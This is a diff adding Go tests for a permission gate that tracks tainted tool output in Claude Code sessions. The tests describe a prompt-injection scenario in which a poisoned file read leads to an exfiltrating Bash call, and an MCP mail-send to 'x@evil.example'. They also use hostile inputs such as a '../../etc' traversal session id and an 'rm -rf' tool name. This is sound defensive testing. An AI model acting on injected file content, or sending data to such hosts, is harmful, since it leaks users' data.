@@ -1,0 +1,383 @@
+package cli
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/pedigree-ai/pedigree"
+	"github.com/pedigree-ai/pedigree/internal/hook"
+)
+
+const hookFixtures = "../../testdata/hook/claude"
+
+// hook runs 'pedigree hook claude' with an event on stdin.
+func (c *cliEnv) hook(event []byte) result {
+	var out, errw bytes.Buffer
+	a := &app{in: bytes.NewReader(event), out: &out, errw: &errw, getenv: func(string) string { return "" }, clock: c.clock}
+	code := a.run(context.Background(), []string{"--dir", c.dir, "hook", "claude"})
+	return result{out.String(), errw.String(), code}
+}
+
+func fixture(t *testing.T, name string) []byte {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(hookFixtures, name+".json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// withSession rewrites a fixture's session_id.
+func withSession(t *testing.T, ev []byte, session string) []byte {
+	t.Helper()
+	var m map[string]any
+	if err := json.Unmarshal(ev, &m); err != nil {
+		t.Fatal(err)
+	}
+	m["session_id"] = session
+	b, _ := json.Marshal(m)
+	return b
+}
+
+func (c *cliEnv) hookSetup() {
+	c.t.Helper()
+	c.must("init")
+	c.must("hook", "claude", "init")
+	c.must("registry", "freeze")
+}
+
+func permission(t *testing.T, r result) (decision, reason string) {
+	t.Helper()
+	if r.code != 0 {
+		t.Fatalf("exit %d: %s", r.code, r.err)
+	}
+	if strings.TrimSpace(r.out) == "" {
+		return "", ""
+	}
+	var a hook.Answer
+	if err := json.Unmarshal([]byte(r.out), &a); err != nil || a.HookSpecificOutput == nil {
+		t.Fatalf("not a PreToolUse answer: %v\n%s", err, r.out)
+	}
+	if a.HookSpecificOutput.HookEventName != "PreToolUse" {
+		t.Fatalf("hookEventName %q", a.HookSpecificOutput.HookEventName)
+	}
+	return a.HookSpecificOutput.PermissionDecision, a.HookSpecificOutput.PermissionDecisionReason
+}
+
+func TestHookClaude(t *testing.T) { modes(t, testHookClaude) }
+
+// The story, with the fixtures: a prompt, a Read of a poisoned file, then a
+// Bash call that would exfiltrate is asked, with a reason naming the file;
+// the person allows it at Claude Code's prompt, and the log says who did.
+func testHookClaude(t *testing.T, served bool) {
+	c := newEnv(t)
+	c.hookSetup()
+	if served {
+		c.serve()
+	}
+	for _, name := range []string{"session_start", "user_prompt_submit", "pre_tool_use_read", "post_tool_use_read"} {
+		r := c.hook(fixture(t, name))
+		if d, _ := permission(t, r); d != "" {
+			t.Fatalf("%s answered %q; want nothing", name, d)
+		}
+	}
+	d, reason := permission(t, c.hook(fixture(t, "pre_tool_use_bash")))
+	if d != "ask" {
+		t.Fatalf("the Bash call after the poisoned Read: %q, want ask (%s)", d, reason)
+	}
+	for _, want := range []string{"Read /work/project/NOTES.md", "tool:claude-local", "unverified", "Decision ", "lineage trace", "user:claude's approval"} {
+		if !strings.Contains(reason, want) {
+			t.Errorf("the reason does not say %q: %s", want, reason)
+		}
+	}
+	log := c.must("gate", "log", "-o", "json")
+	var ds struct{ Decisions []map[string]any }
+	json.Unmarshal([]byte(log.out), &ds)
+	var ask map[string]any
+	for _, x := range ds.Decisions {
+		if x["tool"] == "Bash" {
+			ask = x
+		}
+	}
+	if ask == nil || ask["decision"] != "ask" || ask["principal"] != "agent:claude-code" {
+		t.Fatalf("the Bash decision is not logged as the agent's ask: %v", ask)
+	}
+	tr := c.must("lineage", "trace", ask["call_id"].(string), "-o", "json").json(t)
+	un, _ := tr["untrusted"].([]any)
+	if len(un) != 1 || un[0].(map[string]any)["principal"] != "tool:claude-local" {
+		t.Fatalf("the trace of the asked call does not name the Read's output: %v", tr["untrusted"])
+	}
+
+	// The person allowed it: PostToolUse records the approval and an allow
+	// that uses it, and the output derives from the approved call.
+	if r := c.hook(fixture(t, "post_tool_use_bash")); r.code != 0 || r.out != "" {
+		t.Fatalf("PostToolUse: exit %d %q %s", r.code, r.out, r.err)
+	}
+	log = c.must("gate", "log", "-o", "json")
+	ds.Decisions = nil
+	json.Unmarshal([]byte(log.out), &ds)
+	var approved map[string]any
+	for _, x := range ds.Decisions {
+		if x["tool"] == "Bash" && x["decision"] == "allow" {
+			approved = x
+		}
+	}
+	if approved == nil || approved["approval"] == nil {
+		t.Fatalf("no allow using the user's approval after the asked call ran: %v", ds.Decisions)
+	}
+	show := c.must("lineage", "show", approved["approval"].(string), "-o", "json").json(t)
+	if show["principal"] != "user:claude" || show["kind"] != "approval" {
+		t.Fatalf("the approval is not the user's: %v", show)
+	}
+	// Delivered twice, recorded once; the approval is used, so an identical
+	// call is asked again.
+	before := c.must("verify", "-o", "json").json(t)["entries"]
+	c.hook(fixture(t, "post_tool_use_bash"))
+	if after := c.must("verify", "-o", "json").json(t)["entries"]; after != before {
+		t.Fatalf("a repeated PostToolUse was recorded again: %v entries, then %v", before, after)
+	}
+	if d, _ := permission(t, c.hook(fixture(t, "pre_tool_use_bash"))); d != "ask" {
+		t.Fatalf("the same call again: %q, want ask (an approval is used once)", d)
+	}
+
+	// An MCP tool's output is external; a session ending records nothing.
+	if r := c.hook(fixture(t, "post_tool_use_mcp")); r.code != 0 {
+		t.Fatalf("MCP PostToolUse: exit %d %s", r.code, r.err)
+	}
+	if r := c.hook(fixture(t, "session_end")); r.code != 0 || r.out != "" {
+		t.Fatalf("SessionEnd: exit %d %q", r.code, r.out)
+	}
+	if rep := c.must("verify", "-o", "json").json(t); rep["ok"] != true {
+		t.Fatalf("verify: %v", rep)
+	}
+}
+
+func TestHookClaudeCleanSession(t *testing.T) { modes(t, testHookClaudeCleanSession) }
+
+func testHookClaudeCleanSession(t *testing.T, served bool) {
+	c := newEnv(t)
+	c.hookSetup()
+	if served {
+		c.serve()
+	}
+	c.hook(withSession(t, fixture(t, "user_prompt_submit"), "clean"))
+	if d, r := permission(t, c.hook(withSession(t, fixture(t, "pre_tool_use_bash"), "clean"))); d != "" {
+		t.Fatalf("a clean session's Bash call: %q (%s), want nothing (Claude Code decides)", d, r)
+	}
+	// A tool no catalog lists, in a clean session, is not blocked either;
+	// its output is recorded by the default principal.
+	unknown := []byte(`{"session_id":"clean","hook_event_name":"PreToolUse","tool_name":"FutureTool","tool_input":{},"tool_use_id":"t9"}`)
+	if d, _ := permission(t, c.hook(unknown)); d != "" {
+		t.Fatalf("an unknown tool in a clean session: %q", d)
+	}
+	post := []byte(`{"session_id":"clean","hook_event_name":"PostToolUse","tool_name":"FutureTool","tool_input":{},"tool_use_id":"t9","tool_response":"x"}`)
+	if r := c.hook(post); r.code != 0 {
+		t.Fatalf("exit %d %s", r.code, r.err)
+	}
+	// ...and now the session holds unverified output: Bash is asked.
+	if d, _ := permission(t, c.hook(withSession(t, fixture(t, "pre_tool_use_bash"), "clean"))); d != "ask" {
+		t.Fatalf("after an unknown tool's output: %q, want ask", d)
+	}
+}
+
+func TestHookClaudeMCPDenied(t *testing.T) {
+	c := newEnv(t)
+	c.hookSetup()
+	c.hook(withSession(t, fixture(t, "post_tool_use_mcp"), "m"))
+	call := []byte(`{"session_id":"m","hook_event_name":"PreToolUse","tool_name":"mcp__mail__send","tool_input":{"to":"x@evil.example"},"tool_use_id":"t2"}`)
+	d, reason := permission(t, c.hook(call))
+	if d != "deny" || !strings.Contains(reason, "gate approve") || !strings.Contains(reason, "tool:claude-mcp") || !strings.Contains(reason, "mcp__notes__get_note") {
+		t.Fatalf("an MCP call after an MCP tool's output: %q: %s", d, reason)
+	}
+}
+
+// Bad input blocks: exit 2 with the reason on stderr, never another code,
+// and nothing is recorded.
+func TestHookClaudeBadInput(t *testing.T) {
+	c := newEnv(t)
+	c.hookSetup()
+	c.hook(fixture(t, "user_prompt_submit"))
+	entries := c.must("verify", "-o", "json").json(t)["entries"]
+	pre := string(fixture(t, "pre_tool_use_bash"))
+	cases := []struct{ name, event, want string }{
+		{"truncated", pre[:len(pre)/2], "not a JSON object"},
+		{"empty", "", "not a JSON object"},
+		{"an array", "[]", "not a JSON object"},
+		{"trailing data", pre + "{}", "trailing data"},
+		{"unknown event", `{"session_id":"s","hook_event_name":"Exfiltrate"}`, "unknown hook_event_name"},
+		{"no event", `{"session_id":"s"}`, "no hook_event_name"},
+		{"no session", `{"hook_event_name":"SessionStart"}`, "session_id"},
+		{"session with a backslash", `{"session_id":"a\\b","hook_event_name":"SessionStart"}`, "session_id"},
+		{"session starting with a dot", `{"session_id":"../../etc","hook_event_name":"SessionStart"}`, "session_id"},
+		{"session with a NUL", `{"session_id":"a\u0000b","hook_event_name":"SessionStart"}`, "session_id"},
+		{"prompt missing", `{"session_id":"s","hook_event_name":"UserPromptSubmit"}`, "without a prompt"},
+		{"prompt not a string", `{"session_id":"s","hook_event_name":"UserPromptSubmit","prompt":7}`, "not a JSON object"},
+		{"tool name with a space", `{"session_id":"s","hook_event_name":"PreToolUse","tool_name":"rm -rf","tool_input":{}}`, "tool_name"},
+		{"tool input not an object", `{"session_id":"s","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":"ls"}`, "tool_input"},
+		{"response missing", `{"session_id":"s","hook_event_name":"PostToolUse","tool_name":"Read","tool_input":{}}`, "tool_response"},
+		{"too large", `{"session_id":"s","hook_event_name":"PostToolUse","tool_name":"Read","tool_input":{},"tool_response":"` + strings.Repeat("a", hook.MaxEventBytes) + `"}`, "larger than"},
+	}
+	for _, tc := range cases {
+		r := c.hook([]byte(tc.event))
+		if r.code != 2 || !strings.Contains(r.err, tc.want) || r.out != "" {
+			t.Errorf("%s: exit %d, stdout %q, stderr %q; want exit 2 saying %q", tc.name, r.code, r.out, r.err, tc.want)
+		}
+	}
+	if got := c.must("verify", "-o", "json").json(t)["entries"]; got != entries {
+		t.Fatalf("bad input stored entries: %v, then %v", entries, got)
+	}
+	// A data directory without the hook's set-up blocks too.
+	d := newEnv(t)
+	d.must("init")
+	d.must("registry", "freeze")
+	if r := d.hook(fixture(t, "user_prompt_submit")); r.code != 2 || !strings.Contains(r.err, "hook claude init") {
+		t.Fatalf("without init: exit %d %s", r.code, r.err)
+	}
+}
+
+// A session ID with slashes is a pedigree session as it is, and never
+// reaches a file path.
+func TestHookClaudeSessionWithSlashes(t *testing.T) {
+	c := newEnv(t)
+	c.hookSetup()
+	s := "a/../../../../tmp/x"
+	if r := c.hook(withSession(t, fixture(t, "pre_tool_use_read"), s)); r.code != 0 {
+		t.Fatalf("exit %d %s", r.code, r.err)
+	}
+	if r := c.hook(withSession(t, fixture(t, "post_tool_use_read"), s)); r.code != 0 {
+		t.Fatalf("exit %d %s", r.code, r.err)
+	}
+	filepath.Walk(filepath.Join(c.dir, hook.StateDir), func(p string, _ os.FileInfo, _ error) error {
+		if rel := strings.TrimPrefix(p, c.dir); strings.Contains(rel, "tmp") || strings.Contains(rel, "..") {
+			t.Errorf("a session ID reached a path: %s", p)
+		}
+		return nil
+	})
+	if d, _ := permission(t, c.hook(withSession(t, fixture(t, "pre_tool_use_bash"), s))); d != "ask" {
+		t.Fatalf("the session's taint was not kept under its own name: %q", d)
+	}
+}
+
+// A large tool_response is recorded by its digest (the content is not
+// kept); large arguments are checked with long values digested.
+func TestHookClaudeLargeEvents(t *testing.T) {
+	c := newEnv(t)
+	c.hookSetup()
+	big, _ := json.Marshal(strings.Repeat("x", 4<<20))
+	ev := `{"session_id":"big","hook_event_name":"PostToolUse","tool_name":"Read","tool_input":{"file_path":"/f"},"tool_use_id":"t1","tool_response":` + string(big) + `}`
+	if r := c.hook([]byte(ev)); r.code != 0 {
+		t.Fatalf("a 4 MiB tool_response: exit %d %s", r.code, r.err)
+	}
+	write, _ := json.Marshal(map[string]any{"session_id": "big2", "hook_event_name": "PreToolUse", "tool_name": "Write", "tool_use_id": "t2",
+		"tool_input": map[string]any{"file_path": "/f", "content": strings.Repeat("y", 200<<10)}})
+	if r := c.hook(write); r.code != 0 || r.out != "" {
+		t.Fatalf("a 200 KiB Write in a clean session: exit %d %q %s", r.code, r.out, r.err)
+	}
+}
+
+// A tool result that could not be recorded leaves the session's context
+// incomplete: its next calls are denied.
+func TestHookClaudeUnrecordedOutputDenies(t *testing.T) {
+	c := newEnv(t)
+	c.hookSetup()
+	// The key of the tool's principal is unreadable: the record fails.
+	key := filepath.Join(c.dir, hook.KeyDir, "tool-claude-local.key")
+	os.Rename(key, key+".away")
+	if r := c.hook(withSession(t, fixture(t, "post_tool_use_read"), "u")); r.code != 2 {
+		t.Fatalf("exit %d, want 2", r.code)
+	}
+	os.Rename(key+".away", key)
+	d, reason := permission(t, c.hook(withSession(t, fixture(t, "pre_tool_use_read"), "u")))
+	if d != "deny" || !strings.Contains(reason, "incomplete") {
+		t.Fatalf("after an unrecorded result: %q %s", d, reason)
+	}
+}
+
+// The store is held by another process: the hook waits for it, then
+// blocks if it stays held.
+func TestHookClaudeLockedStore(t *testing.T) {
+	c := newEnv(t)
+	c.hookSetup()
+	e, err := pedigree.Open(context.Background(), c.dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := c.hook(fixture(t, "user_prompt_submit"))
+	e.Close()
+	if r.code != 2 || !strings.Contains(r.err, "in use by another pedigree process") || !strings.Contains(r.err, "waited") {
+		t.Fatalf("a held store: exit %d %s", r.code, r.err)
+	}
+}
+
+func TestHookClaudeInit(t *testing.T) {
+	c := newEnv(t)
+	c.must("init")
+	// An operator's own entry for Bash that differs is refused, and
+	// nothing is registered.
+	os.WriteFile(filepath.Join(c.dir, "tools.yaml"), []byte("tools:\n  Bash: {sensitive: false}\n  send_money: {sensitive: true}\n"), 0o644)
+	r := c.run("hook", "claude", "init")
+	if r.code != ExitError || !strings.Contains(r.err, "[Bash]") {
+		t.Fatalf("a conflicting tools.yaml: exit %d %s", r.code, r.err)
+	}
+	if out := c.must("registry", "list").out; strings.Contains(out, "claude") {
+		t.Fatalf("a refused init registered principals:\n%s", out)
+	}
+	os.WriteFile(filepath.Join(c.dir, "tools.yaml"), []byte("tools:\n  send_money: {sensitive: true}\n"), 0o644)
+	j := c.must("hook", "claude", "init", "--user", "user:alice", "-o", "json").json(t)
+	if j["version"] != float64(1) {
+		t.Fatalf("%v", j)
+	}
+	for _, p := range j["principals"].([]any) {
+		key := p.(map[string]any)["key"].(string)
+		if fi, err := os.Stat(key); err != nil || fi.Mode().Perm() != 0o600 {
+			t.Fatalf("key %s: %v %v", key, fi.Mode(), err)
+		}
+	}
+	list := c.must("registry", "list").out
+	for _, want := range []string{"user:alice", "agent:claude-code", "tool:claude-web", "tool:claude-local", "tool:claude-mcp"} {
+		if !strings.Contains(list, want) {
+			t.Errorf("%s not registered:\n%s", want, list)
+		}
+	}
+	tools, _ := os.ReadFile(filepath.Join(c.dir, "tools.yaml"))
+	if !strings.Contains(string(tools), "send_money") || !strings.Contains(string(tools), "WebFetch") {
+		t.Fatalf("tools.yaml not merged:\n%s", tools)
+	}
+	if r := c.run("hook", "claude", "init"); r.code == 0 {
+		t.Fatal("a second init succeeded")
+	}
+	c.must("registry", "freeze")
+	if r := c.run("hook", "claude", "init"); r.code == 0 || !strings.Contains(r.err, "frozen") {
+		t.Fatalf("init after freeze: exit %d %s", r.code, r.err)
+	}
+}
+
+func TestHookClaudeSettings(t *testing.T) {
+	c := newEnv(t)
+	c.hookSetup()
+	r := c.must("hook", "claude", "settings", "--command", "/usr/local/bin/pedigree")
+	var s hook.Settings
+	if err := json.Unmarshal([]byte(r.out), &s); err != nil {
+		t.Fatal(err)
+	}
+	abs, _ := filepath.Abs(c.dir)
+	for _, ev := range []string{"UserPromptSubmit", "PreToolUse", "PostToolUse", "PostToolUseFailure", "SessionStart"} {
+		m := s.Hooks[ev]
+		if len(m) != 1 || m[0].Hooks[0].Command != "/usr/local/bin/pedigree --dir "+abs+" hook claude" {
+			t.Fatalf("%s: %+v", ev, m)
+		}
+		if (ev == "PreToolUse") != (m[0].Matcher == "*") && ev != "PostToolUse" && ev != "PostToolUseFailure" {
+			t.Fatalf("%s matcher %q", ev, m[0].Matcher)
+		}
+	}
+	h := c.must("hook", "claude", "settings", "--http", "http://127.0.0.1:7777/v1/hooks/claude").out
+	token, _ := hook.Token(c.dir)
+	if !strings.Contains(h, `"type": "http"`) || !strings.Contains(h, "Bearer "+token) {
+		t.Fatalf("http settings:\n%s", h)
+	}
+}
